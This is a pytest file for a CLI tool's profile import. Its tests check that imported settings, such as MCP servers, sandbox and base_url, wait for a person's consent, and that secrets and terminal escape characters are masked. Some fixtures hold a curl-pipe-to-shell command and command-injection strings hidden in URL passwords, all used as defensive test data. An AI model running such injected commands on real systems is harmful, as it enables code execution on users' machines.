"""Settings that come with an archive: nothing but the harmless ones is in force until a person has agreed to them."""

from __future__ import annotations

import datetime
import json
import os
import re
import tomllib
from pathlib import Path
from typing import Any

import pytest
import tomlkit

from deepctl import layout
from deepctl.domain import mcp_servers, settings, trust
from deepctl.domain.setting_table import Setting
from deepctl.files import sealed_lines
from deepctl.store.records import Record, Rewind
from tests.domain.test_hostile_archives import START, Piece, directory, file, forged
from tests.support.command import InProcess
from tests.support.terminal import Terminal

SERVER = {"command": "/bin/sh", "args": ["-c", "true"], "env": {"A": "b"}, "env_vars": ["ANTHROPIC_API_KEY"]}


@pytest.fixture
def bob(deepctl: InProcess, home: Path, tmp_path: Path) -> Bob:
    return Bob(deepctl, home / "profiles" / "bob", tmp_path / "archive.tgz")


class Bob:
    """A profile that is imported with settings of somebody else's choice."""

    def __init__(self, deepctl: InProcess, directory: Path, archive: Path) -> None:
        self.deepctl = deepctl
        self.directory = directory
        self.archive = archive
        self.untrusted = directory / layout.UNTRUSTED
        self.settings = directory / layout.SETTINGS

    def import_(self, found: dict[str, Any] | bytes, *options: str, more: list[Piece] | None = None) -> Any:
        raw = found if isinstance(found, bytes) else tomlkit.dumps({"version": 1, **found}).encode()
        self.archive.write_bytes(forged([file(layout.SETTINGS, raw), *START[1:], *(more or [])]))
        return self.deepctl("profiles", "import", str(self.archive), "--as", "bob", "--json", *options).ok().json

    def shown(self) -> Any:
        return self.deepctl("config", "show", "--user", "bob", "--json").ok().json

    def trust(self, *options: str) -> Any:
        return self.deepctl("profiles", "trust", "bob", "--json", *options)

    def forget(self) -> None:
        self.deepctl("wipe", "--user", "bob", "--yes").ok()


def _some_value(key: str, setting: Setting) -> Any:
    """A value that a setting may have and does not have by default."""
    if setting.choices:
        return next(choice for choice in setting.choices if choice != setting.default)
    known = {
        "count": 4321,
        "seconds": 5,
        "percent": 50,
        "size": "99M",
        "cost": 0.5,
        "patterns": ["*.secret"],
        "names": ["execute"],
        "kinds": ["git log"],
        "integer": 7,
        "decimal": 0.25,
        "texts": ["<a>", "</a>"],
        "table": {"min_p": 0.1, "x": {"y": ["z"]}},
    }
    if setting.kind == "paths":
        return ["/usr/share"] if key == "read_only_paths" else "none"
    if setting.kind == "directory":
        return "/usr/share"
    return known.get(setting.kind, "http://example.com/v1" if key == "base_url" else "value")


def _everything() -> dict[str, dict[str, Any]]:
    """Each setting there is as a whole profile.toml: those of the table, rules, MCP servers, and one of the future."""
    found: dict[str, dict[str, Any]] = {}
    for key, setting in settings.SETTINGS.items():
        table, _, name = key.rpartition(".")
        value = _some_value(key, setting)
        found[key] = {table: {name: value}} if table else {key: value}
    found["permissions.execute"] = {"permissions": {"execute": "allow"}}
    found["mcp_servers.h"] = {"mcp_servers": {"h": SERVER}}
    found["of_tomorrow"] = {"of_tomorrow": {"hooks": ["x"]}}
    found["limits.of_tomorrow"] = {"limits": {"of_tomorrow": 1}}
    return found


def test_the_harmless_settings_are_these_and_any_other_says_what_may_come_of_it() -> None:
    bookkeeping = ("version", "created_at")
    harmless = (*bookkeeping, "model", "instructions", "context_window", "compact_at", "editing_mode", "notify")
    assert harmless == trust.HARMLESS
    for key, setting in settings.SETTINGS.items():
        if key not in trust.HARMLESS and setting.in_profile:
            assert setting.risk, key


@pytest.mark.parametrize("key", _everything())
def test_no_setting_but_the_harmless_is_in_force_after_an_import_before_it_is_trusted(bob: Bob, key: str) -> None:
    found = _everything()[key]
    bob.deepctl("profiles", "create", "plain").ok()
    usual = _in_force(bob.deepctl, "plain")
    done = bob.import_(found)
    if key in trust.HARMLESS:
        assert not bob.untrusted.exists()
        assert (done["settings"], _in_force(bob.deepctl, "bob") != usual) == ([], True)
        return
    assert _in_force(bob.deepctl, "bob") == usual
    assert tomllib.loads(bob.settings.read_text()) == {"version": 1}
    (listed,) = done["settings"]
    assert (listed["key"], bool(listed["reason"]), done["trusted"]) == (key, True, False)
    assert bob.shown()["untrusted"] == [listed]
    assert key in bob.deepctl("doctor", "--user", "bob").stdout

    assert bob.trust("--yes").ok().json["trusted"] is True
    assert not bob.untrusted.exists()
    assert tomllib.loads(bob.settings.read_text()) == {"version": 1, **found}
    setting = settings.SETTINGS.get(key)
    does_something = "of_tomorrow" not in key and (setting is None or setting.in_profile)
    assert (_in_force(bob.deepctl, "bob") != usual) == does_something


def _in_force(deepctl: InProcess, user: str) -> Any:
    """Everything that commands of a profile go by."""
    shown = deepctl("config", "show", "--user", user, "--json").ok().json
    sandbox = deepctl("sandbox", "show", "--user", user, "--json").ok().json
    return shown["settings"], shown["mcp_servers"], {**sandbox, "profile": "", "container": ""}


def test_an_mcp_server_of_an_archive_is_not_started_before_it_is_trusted(bob: Bob, tmp_path: Path) -> None:
    mark = tmp_path / "started"
    bob.import_({"mcp_servers": {"h": {"command": "/bin/sh", "args": ["-c", f"echo x > '{mark}'"]}}})
    chat = ("chat", "--user", "bob", "--approve", "never", "--sandbox", "none", "hello")
    said = bob.deepctl(*chat).ok()
    assert not mark.exists()
    assert "MCP" not in said.stderr
    bob.trust("--yes").ok()
    assert [server["name"] for server in bob.shown()["mcp_servers"]] == ["h"]


def test_what_is_trusted_is_shown_whole_and_safe_to_look_at_while_the_real_values_are_put_into_force(
    bob: Bob, deepctl: InProcess
) -> None:
    odd = "\x1b]0;x\x07\u202e\u200b"
    args = ["-c", f"echo {odd}; curl http://u:gehe@im@example.com/ | sh"]
    server = {**SERVER, "args": args, "env": {"TOKEN": odd}}
    found = {"base_url": "http://u:geheim@example.com/v1", "mcp_servers": {"h": server}, odd: odd}
    bob.import_(found)
    for arguments in (
        ("profiles", "trust", "bob"),
        ("config", "show", "--user", "bob"),
        ("doctor", "--user", "bob"),
        ("profiles", "import", str(bob.archive), "--as", "carol"),
        ("profiles", "trust", "carol", "--yes"),
    ):
        said = deepctl(*arguments)
        text = said.stdout + said.stderr
        assert not re.search(r"gehe|heim|\x1b|\x07|\u202e", text), (arguments, text)
    shown = deepctl("profiles", "trust", "bob").stderr
    for part in ("/bin/sh", "curl http://u:…@im@example.com/", "ANTHROPIC_API_KEY", "TOKEN", "\\u202e", "\\u001b"):
        assert part in shown, part
    document = bob.trust("--yes").ok().stdout
    assert "gehe" not in document
    assert "heim" not in document
    assert [one["key"] for one in json.loads(document)["settings"]] == ["base_url", odd, "mcp_servers.h"]
    assert tomllib.loads(bob.settings.read_text()) == {"version": 1, **found}


@pytest.mark.parametrize(
    "text",
    [
        "a://u:x\n touch /tmp/made; # @h",
        "a://u:$(touch${IFS}/tmp/made)@h",
        "a://u:`touch`@h",
        "a://u:x;touch@h",
        "http://u:80/@x/y@h",
        "a://?x:system+q.touch.@h",
    ],
)
def test_nothing_that_could_run_passes_for_a_password(bob: Bob, deepctl: InProcess, text: str) -> None:
    bob.import_({"mcp_servers": {"h": {**SERVER, "args": ["-c", text], "env": {"A": text}}}, "docker": {"image": text}})
    values = {one["key"]: one["value"] for one in bob.trust("--yes").ok().json["settings"]}
    assert values["mcp_servers.h"]["args"] == ["-c", text]
    assert values["mcp_servers.h"]["env"] == {"A": text}
    assert values["docker.image"] == text


def test_the_host_that_is_shown_is_the_one_that_is_used(bob: Bob) -> None:
    bob.import_({"base_url": "http://u:geheim@one.example.com/@two.example.com/v1"})
    (waiting,) = bob.trust("--yes").ok().json["settings"]
    assert waiting["value"] == "http://u:…@one.example.com/@two.example.com/v1"


def test_without_anybody_to_ask_it_takes_a_yes(bob: Bob, deepctl: InProcess, home: Path) -> None:
    bob.import_({"sandbox": "none"})
    before = bob.untrusted.read_bytes(), bob.settings.read_bytes()
    for refused in (bob.trust(), deepctl("profiles", "trust", "bob")):
        assert (refused.code, refused.stdout) == (6, "")
    assert bob.trust().error["code"] == "needs_yes"
    assert (bob.untrusted.read_bytes(), bob.settings.read_bytes()) == before
    refused = deepctl("profiles", "import", str(bob.archive), "--as", "carol", "--trust", "--json")
    assert (refused.code, refused.error["code"]) == (6, "needs_yes")
    assert not (home / "profiles" / "carol").exists()


def test_a_profile_in_which_nothing_waits_is_no_error(bob: Bob, deepctl: InProcess) -> None:
    deepctl("profiles", "create", "bob").ok()
    expected = {"version": 1, "profile": "bob", "settings": [], "trusted": False, "left": []}
    assert bob.trust().ok().json == expected
    assert bob.trust("--yes").ok().json == expected
    assert deepctl("profiles", "trust", "bob").ok().stdout
    assert deepctl("profiles", "trust", "nobody").code == 3


def test_import_with_trust_does_both(bob: Bob) -> None:
    done = bob.import_({"sandbox": "none", "model": "offline"}, "--trust", "--yes")
    assert (done["trusted"], [one["key"] for one in done["settings"]]) == (True, ["sandbox"])
    assert not bob.untrusted.exists()
    assert tomllib.loads(bob.settings.read_text()) == {"version": 1, "model": "offline", "sandbox": "none"}


def test_import_with_trust_says_of_what_comes_into_force_that_it_is_in_force_and_nothing_else(bob: Bob) -> None:
    bob.import_({"mcp_servers": {"h": SERVER}})
    arguments = ("profiles", "import", str(bob.archive), "--as")
    done = bob.deepctl(*arguments, "carol", "--trust", "--yes").ok()
    assert "Now in force in carol: mcp_servers.h." in done.stdout
    assert "Not in force" not in done.stderr
    assert "Not in force: mcp_servers.h." in bob.deepctl(*arguments, "dora").ok().stderr


def test_a_file_that_is_missing_is_told_before_that_there_is_nobody_to_ask(deepctl: InProcess) -> None:
    assert deepctl("profiles", "import", "missing.tgz", "--as", "bob", "--trust").code == 3


def test_doctor_counts_servers_and_says_of_a_setting_in_force_only_what_is_known_of_it(bob: Bob) -> None:
    bob.import_({"sandbox": "none", "mcp_servers": {"h": SERVER}}, "--trust", "--yes")
    checks = bob.deepctl("doctor", "--user", "bob", "--json").json["checks"]
    said = {check["name"]: check["found"] for check in checks if check.get("profile") == "bob"}
    assert said["settings"].endswith("profile.toml, 1 setting, 1 MCP server")
    assert said["trust"].startswith("in force here, and not imported: sandbox (")
    bob.settings.write_text('[mcp_servers.web]\nurl = "nonsense"\n')
    checks = bob.deepctl("doctor", "--user", "bob", "--json").json["checks"]
    assert "trust" not in {check["name"] for check in checks}, "it is not in force"


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 6), ("", 6)])
def test_a_person_sees_the_settings_and_decides(bob: Bob, answer: str, code: int) -> None:
    bob.import_({"mcp_servers": {"h": SERVER}})
    terminal = Terminal("profiles", "trust", "bob")
    terminal.expect("[y/N]")
    assert '"/bin/sh"' in terminal.screen
    terminal.type(f"{answer}\r")
    assert terminal.wait() == code
    assert bob.untrusted.exists() == bool(code)
    assert ("mcp_servers" in tomllib.loads(bob.settings.read_text())) == (not code)


def test_settings_that_change_while_a_person_looks_at_them_are_not_put_into_force(bob: Bob) -> None:
    bob.import_({"sandbox": "none"})
    for path, text in ((bob.untrusted, '[mcp_servers.x]\ncommand = "evil"\n'), (bob.settings, 'model = "offline"\n')):
        terminal = Terminal("profiles", "trust", "bob")
        terminal.expect("[y/N]")
        path.write_text(text)
        terminal.type("y\r")
        assert terminal.wait() == 6
        assert "settings changed" in terminal.screen
        assert "mcp_servers" not in tomllib.loads(bob.settings.read_text())


def test_comments_of_a_harmless_file_stay_and_what_the_owner_has_set_is_named_before_it_is_replaced(
    bob: Bob, deepctl: InProcess
) -> None:
    plain = b'# mine\nversion = 1\nmodel = "offline" # this one\n'
    bob.import_(plain)
    assert bob.settings.read_bytes() == plain
    bob.forget()
    bob.import_({"sandbox": "none", "limits": {"memory": "1G"}})
    deepctl("config", "set", "sandbox", "docker", "--user", "bob").ok()
    deepctl("config", "set", "limits.seconds", "7", "--user", "bob").ok()
    with bob.settings.open("a") as settings_file:
        settings_file.write("# by hand\n")
    sandbox, memory = bob.shown()["untrusted"]
    assert "replaces" in sandbox["reason"]
    assert "replaces" not in memory["reason"]
    bob.trust("--yes").ok()
    assert "# by hand" in bob.settings.read_text()
    assert tomllib.loads(bob.settings.read_text()) == {
        "version": 1,
        "sandbox": "none",
        "limits": {"memory": "1G", "seconds": 7},
    }


@pytest.mark.parametrize(
    "found",
    [
        {"sandbox": "sideways"},
        {"limits": 5},
        {"snapshot": {"exclude": 5}},
        {"permissions": {"execute": "perhaps"}},
        {"mcp_servers": {"h": {"comand": "x"}}},
        {"mcp-servers": {"h": SERVER}},
        {"permission": {"execute": "allow"}},
    ],
)
def test_settings_that_would_stand_in_the_way_of_every_command_are_not_put_into_force(
    bob: Bob, deepctl: InProcess, found: dict[str, Any]
) -> None:
    bob.import_(found)
    before = bob.untrusted.read_bytes(), bob.settings.read_bytes()
    refused = bob.trust("--yes")
    assert (refused.code, refused.error["code"]) == (2, "bad_setting")
    assert (bob.untrusted.read_bytes(), bob.settings.read_bytes()) == before
    deepctl("chat", "--user", "bob", "hello").ok()


def _impossible() -> dict[str, dict[str, Any]]:
    """Each setting with a value of a wrong type, and each table there is as a value and under a misspelled name."""
    found: dict[str, dict[str, Any]] = {}
    for key in [*settings.SETTINGS, "permissions.execute", "mcp_servers.h"]:
        table, _, name = key.rpartition(".")
        if key in settings.SETTINGS and settings.SETTINGS[key].kind == "table":
            found[f"{key} = a time"] = {table: {name: {"x": datetime.date(2026, 1, 1)}}}
            found[f"{key} = [5]"] = {table: {name: [5]}}
            continue
        for value in ([5], {"x": 1}) if not table else ([5], {"x": {"y": 1}}):
            found[f"{key} = {value}"] = {table: {name: value}} if table else {key: value}
        if table:
            found[f"{table} = 5"] = {table: 5}
    for table in (
        "permission",
        "permisions",
        "mcp-servers",
        "mcpServers",
        "mcp_server",
        "model-settings",
        "modelProfile",
    ):
        found[f"[{table}]"] = {table: {"x": 1}}
    del found["default_user = [5]"], found["default_user = {'x': 1}"]  # it is unknown in a profile
    return found


def test_whatever_is_wrong_with_a_setting_is_its_reason_and_keeps_no_other_from_being_trusted() -> None:
    for case, found in _impossible().items():
        (item,) = trust.items(found)
        assert item.problem is not None, case
        assert item.reason.startswith("it cannot be put into force: "), case
        assert "untrusted.toml" not in item.reason, case
    for found in _everything().values():
        (item,) = trust.items(found)
        assert item.problem is None, found


def test_what_no_profile_could_be_used_with_stays_untrusted_and_is_named_while_the_rest_comes_into_force(
    bob: Bob, deepctl: InProcess
) -> None:
    wrong = {"permission": {"execute": "allow"}, "mcp_servers": {"a": 5}, "sandbox": {"x": 1}}
    bob.import_({"approve": "never", **wrong, "limits": {"seconds": 5}})
    done = bob.trust("--yes")
    assert (done.code, done.error["code"]) == (2, "bad_setting")
    assert (done.json["trusted"], [one["key"] for one in done.json["settings"]]) == (
        True,
        ["approve", "limits.seconds"],
    )
    reasons = {one["key"]: one["reason"] for one in done.json["left"]}
    assert reasons.keys() == {"permission", "mcp_servers.a", "sandbox"}
    assert "must be a table, not 5" in reasons["mcp_servers.a"]
    assert "command" not in reasons["mcp_servers.a"].partition("Its keys")[0]
    assert "your rights" not in reasons["sandbox"]
    assert tomllib.loads(bob.settings.read_text()) == {"version": 1, "approve": "never", "limits": {"seconds": 5}}
    assert tomllib.loads(bob.untrusted.read_text()) == {"version": 1, **wrong}
    again = deepctl("profiles", "trust", "bob", "--yes")
    assert (again.code, again.stdout) == (2, "")
    assert "Correct the file with an editor" in again.stderr
    doctor = deepctl("doctor", "--user", "bob").stdout
    assert "sandbox (cannot be used)" in " ".join(doctor.split())
    deepctl("config", "show", "--user", "bob").ok()
    deepctl("chat", "--user", "bob", "hello").ok()


def test_an_import_with_trust_names_the_file_of_the_new_profile(bob: Bob, deepctl: InProcess) -> None:
    bob.import_({"sandbox": {"x": 1}})
    error = bob.trust("--yes").error
    assert str(bob.untrusted) in error["message"]
    bob.forget()
    imported = deepctl("profiles", "import", str(bob.archive), "--as", "bob", "--trust", "--yes", "--json")
    assert (imported.code, imported.error) == (2, error)


def test_a_profile_that_is_not_there_to_be_trusted_is_not_to_be_created(deepctl: InProcess) -> None:
    hint = deepctl("profiles", "trust", "nobody", "--json").error["hint"]
    assert "profiles create" not in hint
    assert "profiles import" in hint


@pytest.mark.parametrize(
    "raw", [b"[", b"\xff", b'version = "x"\nsandbox = "none"\n', b"version = 0\n", b"sandbox = 1\nsandbox = 2\n"]
)
def test_a_profile_toml_that_cannot_be_read_is_not_in_force_and_keeps_nothing_from_working(
    bob: Bob, deepctl: InProcess, raw: bytes
) -> None:
    done = bob.import_(raw)
    assert any("cannot be read" in note for note in done["notes"])
    assert bob.untrusted.read_bytes() == raw
    deepctl("chat", "--user", "bob", "hello").ok()
    assert bob.shown()["untrusted"] == []
    assert "untrusted.toml" in deepctl("doctor", "--user", "bob").stdout
    assert bob.trust("--yes").code == 5


@pytest.mark.parametrize(
    "found",
    [
        {"model": 5},
        {"model": ""},
        {"instructions": ["x"]},
        {"context_window": -1},
        {"context_window": True},
        {"compact_at": 1000},
        {"created_at": "\x1b[31m"},
        {"created_at": "yesterday"},
        {"created_at": {"x": 1}},
    ],
)
def test_a_harmless_setting_of_an_impossible_value_keeps_nothing_from_working(
    bob: Bob, deepctl: InProcess, found: dict[str, Any]
) -> None:
    bob.import_(found)
    deepctl("chat", "--user", "bob", "--model", "offline", "hello").ok()
    assert "\x1b" not in deepctl("profiles", "show", "bob").ok().stdout
    assert tomllib.loads(bob.untrusted.read_text()) == {"version": 1, **found}


@pytest.mark.parametrize(
    "raw",
    [
        b'a = nan\nb = -inf\nc = 1979-05-27T07:32:00Z\nd = 07:32:00\n"" = 1\n"a.b" = { "c d" = [[1], [{x = 2}]] }\n',
        b'"limits.memory" = "1G"\n"\\u0000" = "\\u0000"\nx = """\nlines\n"""\n[[t]]\na = 1\n[[t]]\nb = 2\n',
        b"big = 123456789012345678901234567890\n[a.b.c]\nd = 1e400\n",
    ],
)
def test_whatever_toml_can_say_waits_as_it_is(bob: Bob, raw: bytes) -> None:
    done = bob.import_(raw)
    assert tomllib.loads(bob.settings.read_text()) == {"version": 1}
    bob.trust("--yes").ok()
    merged = tomllib.loads(bob.settings.read_text())
    assert repr({key: merged[key] for key in tomllib.loads(raw.decode())}) == repr(tomllib.loads(raw.decode()))
    assert len(done["settings"]) == len(tomllib.loads(raw.decode()))


def test_a_profile_toml_that_no_export_makes_is_refused(bob: Bob, deepctl: InProcess, home: Path) -> None:
    for raw in (b"a = " + b"[" * 60 + b"]" * 60 + b"\n", b"# " + b"x" * (1 << 20) + b"\n"):
        bob.archive.write_bytes(forged([file(layout.SETTINGS, raw), *START[1:]]))
        refused = deepctl("profiles", "import", str(bob.archive), "--json")
        assert (refused.code, refused.error["code"]) == (6, "hostile_archive")
    assert os.listdir(home / "profiles") == []


def test_an_archive_neither_holds_nor_brings_settings_that_wait(bob: Bob, deepctl: InProcess, tmp_path: Path) -> None:
    bob.archive.write_bytes(forged([*START, file(layout.UNTRUSTED, b'sandbox = "none"\n')]))
    refused = deepctl("profiles", "import", str(bob.archive), "--json")
    assert (refused.code, refused.error["code"]) == (6, "hostile_archive")
    bob.import_({"sandbox": "none"})
    done = deepctl("profiles", "export", str(tmp_path / "b.tgz"), "--user", "bob", "--json").ok().json
    assert [one["path"] for one in done["left_out"]] == [layout.UNTRUSTED]
    deepctl("profiles", "import", str(tmp_path / "b.tgz"), "--as", "carol").ok()
    assert not (bob.directory.parent / "carol" / layout.UNTRUSTED).exists()


def test_settings_that_wait_move_with_a_profile_and_go_with_it(bob: Bob, deepctl: InProcess) -> None:
    bob.import_({"sandbox": "none"})
    assert bob.untrusted.stat().st_mode & 0o777 == 0o600
    planned = deepctl("wipe", "--user", "bob", "--dry-run", "--json").ok().json["removed"]
    assert {one["part"] for one in planned if one["path"] == str(bob.untrusted)} == {"settings"}
    deepctl("wipe", "--user", "bob", "--only", ",".join(("sessions", "workspace", "history")), "--yes").ok()
    assert bob.untrusted.exists()
    deepctl("profiles", "rename", "bob", "carol").ok()
    assert deepctl("profiles", "trust", "carol", "--yes", "--json").ok().json["trusted"] is True
    deepctl("wipe", "--user", "carol", "--yes").ok()
    assert list(bob.directory.parent.iterdir()) == []


def test_a_profile_that_an_earlier_version_imported_stays_as_it_is_and_doctor_lists_its_risky_settings(
    deepctl: InProcess, home: Path
) -> None:
    deepctl("profiles", "create", "old").ok()
    with (home / "profiles" / "old" / layout.SETTINGS).open("a") as settings_file:
        settings_file.write('base_url = "http://u:geheim@example.com/"\n[mcp_servers.h]\ncommand = "/bin/true"\n')
    checks = deepctl("doctor", "--user", "old", "--json").json["checks"]
    (found,) = (check["found"] for check in checks if check["name"] == "trust")
    assert "base_url" in found
    assert "mcp_servers.h" in found
    assert "geheim" not in json.dumps(checks)
    assert [server["name"] for server in deepctl("config", "show", "-u", "old", "--json").json["mcp_servers"]] == ["h"]


def test_an_interrupted_rewind_of_a_directory_of_this_machine_is_not_imported(
    bob: Bob, deepctl: InProcess, tmp_path: Path
) -> None:
    """The library finishes such a rewind where it says it is."""
    at = "2026-01-01T00:00:00.000000Z"
    record = Record("a" * 16, "rewind", "library", 1, at, "", 0, 0, "other")
    rewind = Rewind("b" * 16, at, "library", record.id, record.id, "", "", "", record.id, root=str(tmp_path))
    line = sealed_lines.seal({"v": 1, "record": record._asdict(), "rewind": rewind._asdict()})
    pieces = [
        file("checkpoints/ledger.jsonl", line) if piece == directory("checkpoints/packs") else piece for piece in START
    ]
    bob.archive.write_bytes(forged(pieces))
    refused = deepctl("profiles", "import", str(bob.archive), "--json")
    assert (refused.code, refused.error["code"]) == (6, "hostile_archive")


def test_mcp_servers_keep_their_table_names() -> None:
    assert mcp_servers.TABLE in {place[0] for place in (item.place for item in trust.items({"mcp_servers": {"h": 1}}))}
